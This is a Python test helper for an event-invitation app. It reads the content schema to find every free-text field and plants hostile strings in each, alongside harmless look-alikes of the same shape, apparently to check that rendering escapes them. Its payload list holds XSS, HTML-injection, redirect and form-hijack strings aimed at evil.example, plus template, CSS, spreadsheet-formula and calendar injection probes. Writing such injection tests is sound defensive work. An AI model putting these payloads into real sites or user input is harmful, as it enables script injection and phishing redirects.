"""Texts that want to be more than text, planted in every field where an organizer may write freely.

Which fields those are is read from the content's own schema, so that a new one is attacked from its first day on.
"""

from collections.abc import Callable, Iterator
from functools import cache
from typing import Any

from toi_invite.models.content import EventContent
from toi_invite.models.texts import clean_text

Plant = Callable[[int, int], str]
"""What to write into the field of this number, at most so many characters long."""

PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<!--",
    "]]><script>alert(1)</script>",
    "<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'>",
    "<meta http-equiv=refresh content=0;url=https://evil.example><base href=https://evil.example>",
    "<link rel=stylesheet href=//evil.example/a.css><form action=//evil.example><input autofocus>",
    "javascript:alert(1)",
    "https://evil.example/?a=1&b=2",
    "{{7*7}}{% raw %}",
    "${7*7}#{7*7}`alert(1)`",
    "&#x3c;img src=x&#x3e;&lt;b&gt;&amp;amp;",
    "red;background:url(//evil.example)}*{display:none}",
    "\\u003cscript\\u003e \\x3cb\\x3e %3Cscript%3E",
    "a\u202egnol\u202c b\u2066c\u2069 d\u200fe",
    "a\u200bb\u200dc\u200ed\ufeffe\u00adf",
    "a\x00b\x1fc\x7fd",
    "first\u2028second\u2029third\u0085fourth",
    "👨‍👩‍👧‍👦👩🏽‍❤️‍💋‍👨🏿🇰🇿1️⃣" * 3,
    "Z̸̛͉a̷͇̓l̶̰͒g̴̱̓o̷͚͝",
    "BEGIN:VEVENT\nATTENDEE:x;y,z\\n",
    "=HYPERLINK(1)\t@+-",
    "Ұ" * 1500,
)

_LETTERS = "бвгғджзкқлмнңпрстфхш"

Path = tuple[str | int, ...]


def plant(content: EventContent, write: Plant) -> EventContent:
    """The content with every free text replaced; what has a form of its own (a phone, a date) stays."""
    planted = content.model_dump(mode="json")
    for number, (path, most) in enumerate(list(_list_places(_read_schema(), planted, ()))):
        _put(planted, path, write(number, most))
    return EventContent.model_validate(planted)


def list_texts(content: EventContent) -> list[str]:
    """Every free text of the content in the same order, as it is kept."""
    kept = content.model_dump(mode="json")
    return [_take(kept, path) for path, _ in _list_places(_read_schema(), kept, ())]


def list_fields(content: EventContent) -> set[str]:
    """The free fields that this content has, as `programme.*.what.kk`."""
    places = _list_places(_read_schema(), content.model_dump(mode="json"), ())
    return {".".join("*" if isinstance(step, int) else step for step in path) for path, _ in places}


def list_all_fields() -> set[str]:
    """Every free field that any content may have."""
    return set(_list_schema_places(_read_schema(), ""))


def plant_hostile(rotation: int) -> Plant:
    """Every payload in the field after the one where the rotation before had it."""
    return lambda number, most: f"{_mark(number)} {PAYLOADS[(number + rotation) % len(PAYLOADS)]}"[:most]


def plant_harmless(rotation: int) -> Plant:
    """Texts of the same shape: as long, with the same spaces, figures and dashes, and letters for all the rest."""
    hostile = plant_hostile(rotation)
    return lambda number, most: "".join(
        letter if _is_calm(letter) else "а" for letter in clean_text(hostile(number, most))
    )


def _mark(number: int) -> str:
    """A word for a field's number, made of letters alone, because figures may mean an age."""
    return "Ж" + _LETTERS[number // len(_LETTERS)] + _LETTERS[number % len(_LETTERS)]


def _is_calm(letter: str) -> bool:
    return letter.isspace() or letter.isdigit() or letter in f"-,.!Ж{_LETTERS}"


@cache
def _read_schema() -> dict[str, Any]:
    return EventContent.model_json_schema()


def _resolve(schema: dict[str, Any]) -> dict[str, Any]:
    """The schema itself, without the indirection of a reference or of *or null*."""
    for choice in schema.get("anyOf", ()):
        if choice.get("type") != "null":
            return _resolve(choice)
    if "$ref" in schema:
        return _read_schema()["$defs"][schema["$ref"].rpartition("/")[2]]
    return schema


def _list_places(schema: dict[str, Any], value: Any, path: Path) -> Iterator[tuple[Path, int]]:
    """Where free texts are, and how long each may be."""
    schema = _resolve(schema)
    if isinstance(value, dict):
        for name, inner in value.items():
            yield from _list_places(schema["properties"][name], inner, (*path, name))
    elif isinstance(value, list):
        for number, inner in enumerate(value):
            yield from _list_places(schema["items"], inner, (*path, number))
    elif isinstance(value, str) and _is_free(schema):
        yield path, schema.get("maxLength", 1500)


def _list_schema_places(schema: dict[str, Any], path: str) -> Iterator[str]:
    schema = _resolve(schema)
    for name, inner in schema.get("properties", {}).items():
        yield from _list_schema_places(inner, f"{path}.{name}" if path else name)
    if "items" in schema:
        yield from _list_schema_places(schema["items"], f"{path}.*")
    if _is_free(schema):
        yield path


def _is_free(schema: dict[str, Any]) -> bool:
    return schema.get("type") == "string" and not {"pattern", "format", "enum", "const"} & schema.keys()


def _put(value: Any, path: Path, text: str) -> None:
    for step in path[:-1]:
        value = value[step]
    value[path[-1]] = text


def _take(value: Any, path: Path) -> str:
    for step in path:
        value = value[step]
    return value
